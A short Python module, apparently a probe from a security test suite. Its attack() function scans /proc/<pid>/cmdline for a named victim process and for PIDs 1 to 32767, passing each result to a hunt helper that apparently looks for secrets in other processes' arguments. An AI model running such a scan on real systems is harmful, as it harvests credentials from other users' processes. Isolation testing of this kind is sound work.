"""The arguments of other processes."""
# ruff: noqa


def attack():
    for pid in [FACTS["victim"], *range(1, 32768)]:
        try:
            found = hunt(open(f"/proc/{pid}/cmdline", "rb").read())
        except OSError:
            continue
        if found:
            return found
